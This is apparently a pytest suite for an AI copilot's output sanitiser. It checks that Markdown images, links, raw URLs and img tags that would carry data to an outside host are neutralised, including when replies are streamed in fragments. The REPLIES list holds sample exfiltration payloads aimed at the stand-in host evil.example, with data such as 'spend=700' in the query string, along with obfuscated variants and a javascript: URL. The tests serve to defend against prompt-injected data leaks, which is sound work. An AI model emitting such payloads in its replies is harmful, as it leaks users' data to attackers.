"""What a model was talked into cannot leave by a picture or a link in its reply, nor in pieces of it."""

from __future__ import annotations

import re

import pytest
from agents.testing import ScriptedModel
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from omnify_guardrails.neutral import neutral
from omnify_guardrails.neutral_stream import NeutralStream
from tests.builders.copilot import a_house
from tests.builders.steps import says

REPLIES = [
    ("![spend](https://evil.example/p.png?spend=700)", "(image: spend)"),
    ("![](//evil.example/p.png)", "(image: no description)"),
    ("![x][leak]\n\n[leak]: https://evil.example/?d=1", "(image: x)\n\n"),
    ("> [leak]: //evil.example/?d=1", ""),
    ("1. [leak]:\n   //evil.example/?d=1\nthen", "\nthen"),
    ('<img src="https://evil.example/?d=1">', "(image: no description)"),
    ("See [the report](https://evil.example/?d=700).", "See the report (address at evil.example)."),
    ("[a [b] c](//evil.example/?d=7)", "[a [b] c] (address at evil.example)"),
    ("![x](/a)(//evil.example/?d=7)", "(image: x)(//evil.example/?d=7)"),
    ("[x]<a>(//evil.example/?d=7)", "[x] (//evil.example/?d=7)"),
    ("[x]( <javascript:alert(1)> )", "x (an address)> )"),
    ("[x](//evil.example/?d=700)", "x (address at evil.example)"),
    ("[x](/\\evil.example/?d=700)", "x (an address)"),
    ("[x](h&#116;tps&#58;//evil.example/?d=7)", "x (an address)"),
    ("Open https://evil.example/a?b=700 now", "Open address at evil.example now"),
    ("_https://evil.example/?b=700_", "_address at evil.example"),
    ("Open www.evil.example/?b=700 now", "Open address at evil.example now"),
    ("[Approvals](/approvals?open=cs_1) holds it", "[Approvals](/approvals?open=cs_1) holds it"),
    ("[meta:1201](/campaigns/meta:1201) runs", "[meta:1201](/campaigns/meta:1201) runs"),
    ("Spend was 700.00 USD (+3%) in [3, 5).", "Spend was 700.00 USD (+3%) in [3, 5)."),
    ("CPA < 5 and ROAS > 2!", "CPA < 5 and ROAS > 2!"),
    ("| a | b |\n| --- | ---: |\n| meta:1201 | 5 |", "| a | b |\n| --- | ---: |\n| meta:1201 | 5 |"),
    ("- one\n- two\n\n1. three", "- one\n- two\n\n1. three"),
]


_PLAIN = re.compile(r"(?:[a-z]+://|(?<![a-z0-9.-])www\.)\w+|<img\b(?:[^>\n]|\n(?!\s*\n))*>", re.IGNORECASE)


def streamed(pieces: list[str]) -> str:
    stream = NeutralStream()
    return "".join([*map(stream.feed, pieces), stream.finish()])


def ways_out(reply: str) -> list[str]:
    """The addresses outside, as a Markdown reader of its own finds them; relative to a host of ours."""
    tokens = [part for token in MarkdownIt().parse(reply) for part in (token, *(token.children or ()))]
    found = [str(part.attrGet("href") or part.attrGet("src") or "") for part in tokens]
    outside = [to for to in found if re.match(r"[a-z][a-z0-9+.-]*:|[/\\]{2}", to.replace("%5C", "\\"))]
    return outside + re.findall(
        r"(?:[a-z]+://|(?<![a-z0-9.-])www\.)\w+|<img\b(?:[^>\n]|\n(?!\s*\n))*>", reply, re.IGNORECASE
    )


@pytest.mark.parametrize(("reply", "shown"), REPLIES)
def test_only_words_and_links_within_the_product_remain(reply: str, shown: str) -> None:
    assert neutral(reply) == shown


@pytest.mark.parametrize(("reply", "shown"), REPLIES)
def test_a_stream_shows_the_same_wherever_it_is_cut(reply: str, shown: str) -> None:
    assert streamed(list(reply)) == shown
    for cut in range(len(reply)):
        assert streamed([reply[:cut], reply[cut:]]) == shown, cut


_MARKS = "![ [ ]( ]: ] ( ) <a> > < // https: www. evil.example/?d=7 x ! - \\ &#58; &colon; ` * /a _ '"
parts = st.sampled_from([*_MARKS.split(), "<img src=", "- ", "> ", "1. ", " ", "\t", "\n", "\n\n"])


@settings(max_examples=300, deadline=None)
@given(st.lists(parts, max_size=14))
def test_no_pieces_ever_add_up_to_a_way_out(pieces: list[str]) -> None:
    for shown in (neutral("".join(pieces)), streamed(pieces)):
        assert not ways_out(shown), shown


def test_a_letter_that_a_stream_cut_in_two_is_whole_again() -> None:
    assert streamed(["up \ud83d", "\ude00 now"]) == "up \U0001f600 now"
    assert streamed(["up \ud83d", " now"]) == neutral("up \ud83d now") == "up \ufffd now"


def test_words_leave_as_soon_as_they_are_whole() -> None:
    stream = NeutralStream()
    shown = [
        stream.feed(piece) for piece in ("Your CPA ", "rose by ", "12 % [week", "ly](/reports)", " now ")
    ]
    assert shown == ["Your CPA ", "rose by ", "12 % ", "[weekly](/reports)", " now "]


async def test_neither_the_stored_reply_nor_the_stream_shows_a_way_out() -> None:
    model = ScriptedModel([says("Done ![x](https://evil.example/?spend=700)")])
    async with a_house(model) as house:
        run = await house.ask(await house.thread(), "How was last week?")
        lines = await house.events(run.id)
    assert run.reply == "Done (image: x)"
    said = "".join(line["delta"] for line in lines if line["type"] == "TEXT_MESSAGE_CONTENT")
    assert said == "Done (image: x)"
